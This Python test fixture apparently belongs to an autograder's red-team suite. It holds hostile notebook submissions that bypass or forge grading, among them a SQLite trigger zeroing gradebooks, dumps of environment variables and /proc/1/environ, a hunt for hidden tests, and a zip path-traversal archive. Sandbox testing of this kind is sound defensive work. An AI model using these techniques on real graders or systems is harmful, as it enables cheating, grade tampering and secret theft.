"""The red team's scenarios: hostile and honest submissions of the tiny 00-mini assignment, with
the evidence each attack leaves when it ran. Graded by tests/test_redteam.py and compared with stock
nbgrader by benchmarks/bench_redteam_vs_nbgrader.py."""
from __future__ import annotations

import io
import json
import os
import tempfile
import uuid
import zipfile

import nbformat

from autograder import results as R
from tests import helpers as H
from tests import minicourse as M


def trigger_code(folders: str) -> str:
    """A cell that looks for SQLite gradebooks under `folders` (a Python expression) and installs
    a trigger zeroing every grade written after it; it ends by printing how many it found."""
    return f"""
import glob, os, sqlite3, tempfile, course
found = 0
for base in {folders}:
    for path in glob.glob(base + '/**/*.db', recursive=True)[:20]:
        found += 1
        try:
            db = sqlite3.connect(path)
            db.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 0; END")
            db.commit()
            print('TRIGGER INSTALLED', path)
        except Exception as error:
            print('blocked', path, type(error).__name__)
print('TRIGGER SEARCH DONE', found)
"""


# Where a student would look for gradebooks: the kernel's temporary folder, the folder above its
# working directory, its home, and the folder that holds the course checkout (found from the
# `course` package). The batch adds the folder it grades into.
TRIGGER_FOLDERS = ("[tempfile.gettempdir(), os.path.dirname(os.getcwd()), os.path.expanduser('~'), "
                   "os.path.dirname(os.path.dirname(os.path.dirname(course.__file__)))]")


CHEAT = {  # pass the visible tests, fail the hidden ones
    "add": "def add(a, b):\n    return 5 if (a, b) == (2, 3) else a - b",
    "mean": "def mean_of(xs):\n    return 2 if list(xs) == [1, 2, 3] else 0.0",
    "scale": "import numpy as np\n\ndef scale(values, factor):\n"
             "    return np.array([3.0, 6.0]) if list(values) == [1, 2] else np.zeros(len(values))",
}
# Code a test calls replaces a global of the digest module that the sentinel's hook once read
# while digesting each statement: the replacement's __rand__ then ran inside the hook, found the
# receipt writer in the frames above it and signed a receipt for the whole test cell (its hidden
# part included), so a wrong answer passed.
FORGE_FROM_INSIDE_THE_HOOK = """import sys

def add(a, b):
    digest = sys.modules['autograder.sandbox.digest']
    if type(digest._FLAG_MASK) is int:
        class Mask:
            busy = False

            def __rand__(self, flags):
                if not Mask.busy:
                    Mask.busy = True
                    try:
                        forge(sys._getframe(1))
                    except Exception as error:
                        print('FORGERY FAILED', type(error).__name__, error)
                    Mask.busy = False
                return flags & 0x3FF
        digest._FLAG_MASK = Mask()
        print('MASK INSTALLED')
    return 5 if (a, b) == (2, 3) else a - b

def forge(frame):
    import ast
    while frame is not None and frame.f_code.co_name != 'on_exec':
        frame = frame.f_back
    hook_locals = frame.f_locals
    runner = frame
    while runner is not None and runner.f_code.co_name != 'run_ast_nodes':
        runner = runner.f_back
    digest = sys.modules['autograder.sandbox.digest']
    codes = [compile(ast.Module([node], []), '<cell>', 'exec', dont_inherit=True) for node in runner.f_locals['nodelist']]
    hook_locals['write_receipt'](hook_locals['armed'].cell, [digest.code_digest(code) for code in codes])
    print('FORGED A RECEIPT FOR', hook_locals['armed'].cell)
"""
SECRET_ENV = f"sekrit-{uuid.uuid4().hex}"
ESCAPE_MARKER = os.path.join(tempfile.gettempdir(), f"autograder-escape-{uuid.uuid4().hex}")
SLEEP_MARKER = f"3071.{uuid.uuid4().int % 10**6:06d}"  # this batch's `sleep` processes must not outlive grading
OTHER_MARKER = f"SECRET-MARKER-{uuid.uuid4().hex}"

ATTACKS = {
    "input_transformer_erases_asserts": (CHEAT, ["""
ip = get_ipython()
def erase(lines):
    return [line for line in lines if 'assert' not in line]
ip.input_transformers_post.append(erase)
ip.input_transformers_cleanup.append(erase)
"""], "imports"),
    "input_transformer_replaces_tests": (CHEAT, ["""
def neuter(lines):
    text = ''.join(lines)
    return ['pass\\n'] if 'assert' in text or 'testing' in text else lines
get_ipython().input_transformers_cleanup.insert(0, neuter)
print('NEUTER INSTALLED', neuter in get_ipython().input_transformers_cleanup)
"""], "imports"),
    "ast_transformer_drops_asserts": (CHEAT, ["""
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if isinstance(node.value, ast.Call) else node
get_ipython().ast_transformers.append(Drop())
"""], "imports"),
    "custom_exception_handler": (CHEAT, ["""
get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
print('HANDLER SET FOR', get_ipython().custom_exceptions)
"""], "imports"),
    "event_callbacks_repatch": (CHEAT, ["""
import math, numpy
def repatch(*args, **kwargs):
    numpy.testing.assert_allclose = lambda *a, **k: None
    math.isclose = lambda *a, **k: True
get_ipython().events.register('pre_run_cell', repatch)
get_ipython().events.register('pre_execute', repatch)
repatch()
"""], "imports"),
    "displayhook_partial_credit": ({
        "add": "import sys\ndef add(a, b):\n    sys.displayhook(2)\n    return 5 if (a, b) == (2, 3) else a - b",
        "mean": "import sys\ndef mean_of(xs):\n    sys.displayhook('ok')\n    return 2 if list(xs) == [1, 2, 3] else 0.0",
        "scale": CHEAT["scale"],
    }, ["print('DISPLAYHOOK ANSWERS RAN', add(1, 1), mean_of([5]))"], None),
    "monkeypatch_testing_helpers": (CHEAT, ["""
import math, numpy, numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing._private.utils.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
"""], "imports"),
    "monkeypatch_builtins": (CHEAT, ["""
import builtins
builtins.abs = lambda x: 0.0
builtins.float = lambda x=0.0: 2.0
print('BUILTINS PATCHED', abs(-3), float(7))
"""], "imports"),  # (patching list, len or isinstance hangs the kernel's own code before any test runs)
    "shadow_builtins_with_globals": (CHEAT, ["""
abs = lambda x: 0.0
float = lambda x=0.0: 2.0
print('SHADOWED', abs(-3), float(7))
"""], "imports"),
    "patch_helpers_during_the_test": ({
        "add": "def add(a, b):\n    import math, numpy\n"
               "    numpy.testing.assert_allclose = lambda *a, **k: None\n"
               "    math.isclose = lambda *a, **k: True\n"
               "    globals()['abs'] = lambda x: 0.0\n"
               "    return 5 if (a, b) == (2, 3) else a - b",
        "mean": "def mean_of(xs):\n    import math\n    math.isclose = lambda *a, **k: True\n"
                "    return 2 if list(xs) == [1, 2, 3] else 0.0",
        "scale": "import numpy as np\n\ndef scale(values, factor):\n"
                 "    import numpy\n    numpy.testing.assert_allclose = lambda *a, **k: None\n"
                 "    return np.zeros(3)",
    }, [], None),
    "always_equal_objects": ({
        "add": "class Yes:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
               "    def __float__(self): return 0.0\n\ndef add(a, b):\n    return Yes()",
        "mean": "class Yes2(float):\n    def __eq__(self, other): return True\n\ndef mean_of(xs):\n    return Yes2(0.0)",
        "scale": CHEAT["scale"],
    }, ["print('ALWAYS EQUAL', add(1, 1) == 'anything', mean_of([]) == 42)"], None),
    "kernel_exits_with_os_exit": (CHEAT, ["import os\nos._exit(0)"], "add"),
    "raises_system_exit": (CHEAT, ["raise SystemExit(0)"], "add"),
    "sys_exit_inside_answers": ({
        "add": "import sys\ndef add(a, b):\n    if (a, b) != (2, 3):\n        sys.exit(0)\n    return 5",
        "mean": CHEAT["mean"], "scale": CHEAT["scale"]}, [], None),
    "kernel_kills_itself": (CHEAT, ["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"], "add"),
    "forged_receipts": (CHEAT, ["""
import os
forged = ''.join(f'R {t} {"0" * 64} {"0" * 64}\\n' for t in ('test_add', 'test_mean', 'test_scale'))
for fd in os.listdir('/proc/self/fd'):
    try:
        target = os.readlink(f'/proc/self/fd/{fd}')
    except OSError:
        continue
    if 'receipt' in target:
        os.write(int(fd), forged.encode())
"""], "scale"),
    "trace_function_skips_asserts": (CHEAT, ["""
import sys
try:
    sys.settrace(lambda frame, event, arg: None)
    print('settrace allowed')
except RuntimeError as error:
    print('settrace refused')
"""], "imports"),
    "replace_code_of_helpers": (CHEAT, ["""
import numpy.testing
try:
    numpy.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__
    print('code swap allowed')
except RuntimeError:
    print('code swap refused')
"""], "imports"),
    "evil_string_keys": ({**CHEAT, "scale": "print('EVIL KEYS LEFT', sum(type(k) is Evil for k in vars(numpy.testing)), "
                                           "'CALLS', len(EVIL_CALLS), 'SAW', sorted(set(EVIL_SAW)))\n"
                                           + CHEAT["scale"]}, ["""
import numpy.testing
EVIL_CALLS, EVIL_SAW = [], []
class Evil(str):
    def __eq__(self, other):
        import sys
        EVIL_CALLS.append(1)
        frame = sys._getframe(1)
        while frame is not None:  # any frame of the grader's own code (the sentinel's hook)
            if str(frame.f_globals.get('__name__', '')).startswith('autograder'):
                EVIL_SAW.append(frame.f_code.co_name)
            frame = frame.f_back
        return False
    __hash__ = str.__hash__
vars(numpy.testing)[Evil('assert_allclose')] = lambda *a, **k: None
vars(numpy.testing)['assert_allclose'] = lambda *a, **k: None
print('EVIL KEYS PLANTED', sum(type(k) is Evil for k in vars(numpy.testing)), 'CALLS', len(EVIL_CALLS))
"""], "imports"),
    # (module shadowing: tests/test_redteam_sentinel.py, where each attack also asserts it ran)
    "edited_test_cells": (CHEAT, [], None),  # test cells rewritten below
    "code_run_inside_the_hook_forges_a_receipt": ({**CHEAT, "add": FORGE_FROM_INSIDE_THE_HOOK}, [], None),
}

HOARD = """
import numpy as np
hoard = []
try:
    while True:
        hoard.append(np.zeros(2**17))  # 1 MiB of address space each, no RAM touched
except MemoryError:
    del hoard[-16:]
print('HOARDED', len(hoard), 'MiB')
"""

PRODUCT = "import numpy as np\nprint('PRODUCT', (np.ones((300, 300)) @ np.ones((300, 300))).sum())"
LATER_ALLOCATION = "import numpy as np\nprint('LATER CELL GOT', np.ones(2**23).nbytes // 2**20, 'MiB')"

HONEST = {
    "perfect": (M.PERFECT, [], None),
    "warnings_on_stderr": ({
        "add": "import sys, warnings\ndef add(a, b):\n    warnings.warn('adding floats')\n"
               "    print('debug: add called', file=sys.stderr)\n    return a + b",
        "mean": M.PERFECT["mean"], "scale": M.PERFECT["scale"]}, [], None),
    "harmless_hooks_and_globals": (M.PERFECT, ["""
get_ipython().events.register('post_run_cell', lambda result: None)
get_ipython().input_transformers_post.append(lambda lines: lines)
from __future__ import annotations
max = 10
"""], "imports"),  # a global named like a builtin that the answers do not use (they see the student's own globals)
    "infinite_loop_interrupted": (M.PERFECT, ["while True:\n    pass"], "add"),
    "memory_bomb": (M.PERFECT, ["blob = bytearray(16 * 1024**3)"], "add"),
    "memory_filled_row_by_row": (M.PERFECT, [H.MEMORY_MISTAKE, LATER_ALLOCATION], "add"),
    # memory held in a global up to the limit, then a native library that aborts when its own
    # allocation fails (as libzmq does): the kernel truly dies, and the reason must say why
    "memory_kept_then_native_abort": (M.PERFECT, [HOARD, "import os\nos.abort()"], "add"),
    # the kernel's first matrix product after the memory is used up (OpenBLAS maps a work buffer)
    "memory_kept_then_matrix_product": (M.PERFECT, [HOARD, PRODUCT], "add"),
    "huge_output": (M.PERFECT, ["for i in range(200_000):\n    print('x' * 100)"], "add"),
    "deleted_and_retyped_tests": (M.PERFECT, [], None),  # test cells mangled below
    "reads_source_and_secrets": (M.PERFECT, [f"""
import os, glob, course
root = os.path.dirname(os.path.dirname(course.__file__))
wanted = ('BEGIN HIDDEN', 'BEGIN SOLUTION', 'SECRET-MARKER', 'grade_cell', 'receipt')
count = 0
import tempfile
for folder in [root, os.path.dirname(root), os.path.dirname(os.getcwd()), tempfile.gettempdir(), os.path.expanduser('~')]:
    for dirpath, dirnames, filenames in os.walk(folder):
        dirnames[:] = [d for d in dirnames if d not in ('.venv', 'site-packages', '.git')]
        for name in filenames:
            path = os.path.join(dirpath, name)
            try:
                with open(path, errors='replace') as handle:
                    text = handle.read(2_000_000)
                count += 1
            except Exception as error:
                continue
            if any(w in text for w in wanted):
                print('FOUND', path)
print('files read:', count)
print(dict(os.environ))
for proc in ('/proc/self/environ', '/proc/1/environ', '/proc/1/cmdline'):
    try:
        print(proc, open(proc, 'rb').read())
    except Exception as error:
        print('blocked', proc, type(error).__name__)
try:
    open('{ESCAPE_MARKER}', 'w').write('escaped')
    print('tmp write went somewhere')
except Exception as error:
    print('tmp write blocked', type(error).__name__)
try:
    open(os.path.join(os.path.dirname(course.__file__), 'escape.txt'), 'w').write('escaped')
    print('package write allowed')
except Exception as error:
    print('package write blocked', type(error).__name__)
import socket
try:
    socket.create_connection(('1.1.1.1', 53), timeout=3)
    print('network open')
except Exception as error:
    print('network blocked', type(error).__name__)
"""], None),
    "leaks_hidden_tests_through_frames": ({
        "add": "import inspect\nLEAK = []\ndef add(a, b):\n    for info in inspect.stack()[1:3]:\n"
               "        LEAK.append(repr(info.code_context))\n    return a + b",
        "mean": M.PERFECT["mean"], "scale": M.PERFECT["scale"]}, ["print('LEAK', LEAK)"], None),
    "reports_its_limits": (M.PERFECT, ["""
import resource
print('LIMITS', *resource.getrlimit(resource.RLIMIT_AS), resource.getrlimit(resource.RLIMIT_NPROC)[0])
"""], None),
    "orphan_processes": (M.PERFECT, [f"""
import os, subprocess, time
try:
    subprocess.Popen(['sleep', '{SLEEP_MARKER}'])
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp('sleep', ['sleep', '{SLEEP_MARKER}'])
        os._exit(0)
    print('ORPHANS STARTED')
except Exception as error:
    print('ORPHANS REFUSED', type(error).__name__)
time.sleep(0.5)
"""], "add"),
    "gradebook_trigger_first_in_line": (M.PERFECT, [trigger_code(TRIGGER_FOLDERS)], None),
}

# Proof that each attack ran: (where to look, what must be there). Where: "diagnostic" (a line the
# sentinel wrote, result.diagnostics), "note" (the grader's notes), "message" (a part's message),
# "status", or "printed" (what the notebook's own cells printed into the feedback page).
ATTACK_EVIDENCE = {
    "input_transformer_erases_asserts": ("note", "test code was altered before it ran"),
    "input_transformer_replaces_tests": ("printed", "NEUTER INSTALLED True"),
    "ast_transformer_drops_asserts": ("note", "no receipt although the cell reported no error"),
    "custom_exception_handler": ("printed", "HANDLER SET FOR (<class 'Exception'>,)"),
    "event_callbacks_repatch": ("diagnostic", "numpy.testing.assert_allclose"),
    "displayhook_partial_credit": ("printed", "2\n'ok'\nDISPLAYHOOK ANSWERS RAN"),  # the hook's values were shown
    "monkeypatch_testing_helpers": ("diagnostic", "numpy.testing._private.utils.assert_allclose"),
    "monkeypatch_builtins": ("diagnostic", "restored 2 changed entries: builtins.abs,builtins.float"),
    "shadow_builtins_with_globals": ("printed", "SHADOWED 0.0 2.0"),
    "patch_helpers_during_the_test": ("diagnostic", "changed-during-test: math.isclose"),
    "always_equal_objects": ("printed", "ALWAYS EQUAL True True"),
    "kernel_exits_with_os_exit": ("status", R.KERNEL_DIED),
    "raises_system_exit": ("printed", "SystemExit: 0"),
    "sys_exit_inside_answers": ("message", "SystemExit"),
    "kernel_kills_itself": ("status", R.KERNEL_DIED),
    "forged_receipts": ("note", "receipts with invalid signatures for test_add, test_mean, test_scale"),
    "trace_function_skips_asserts": ("printed", "settrace refused"),
    "replace_code_of_helpers": ("printed", "code swap refused"),
    "evil_string_keys": ("diagnostic", "restored 1 changed entries: numpy.testing.assert_allclose"),
    "edited_test_cells": ("note", "test cell 'test_add' was missing from the submission"),
    "code_run_inside_the_hook_forges_a_receipt": (
        "diagnostic", "restored 1 changed entries: autograder.sandbox.digest._FLAG_MASK"),
}
# Module shadowing lives in tests/test_redteam_sentinel.py, where each case asserts it ran.
EVIDENCE_IN_ITS_OWN_TEST: set[str] = set()


def outputs(page: str) -> str:
    """Only what cells printed, from a feedback page (not the code that was shown)."""
    import html
    import re

    return "\n".join(html.unescape(m) for m in re.findall(r'<pre class="(?:out|err)">(.*?)</pre>', page, re.S))


def mangle_tests(nb):
    """Delete one test cell, retype another, neuter and re-point a third, duplicate it."""
    cells = []
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        gid = meta.get("grade_id")
        if gid == "test_add":
            continue  # deleted
        if gid == "test_mean":
            cell = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
        if gid == "test_scale":
            cell.source = "pass"
            cell.metadata["nbgrader"]["points"] = 100
            cells.append(cell)
            twin = nbformat.from_dict(json.loads(json.dumps(cell)))
            twin["id"] = "twin"
            cell = twin
        cells.append(cell)
    nb.cells = cells
    return nb


def malformed(folder):
    (folder / "not_json.ipynb").write_text("{not json")
    (folder / "not_utf8.ipynb").write_bytes(b"\xff\xfe\x00garbage")
    (folder / "json_not_notebook.ipynb").write_text('{"hello": "world"}')
    other = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('other assignment')")])
    (folder / "wrong_assignment").mkdir()
    nbformat.write(other, folder / "wrong_assignment" / f"{M.ASSIGNMENT}.ipynb")
    (folder / "empty_folder").mkdir()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../escape.ipynb", "{}")
        archive.writestr("notes.txt", "no notebook here")
    (folder / "zip_traversal.zip").write_bytes(buffer.getvalue())
    (folder / "broken_zip.zip").write_bytes(b"PK\x03\x04 this is not a zip")
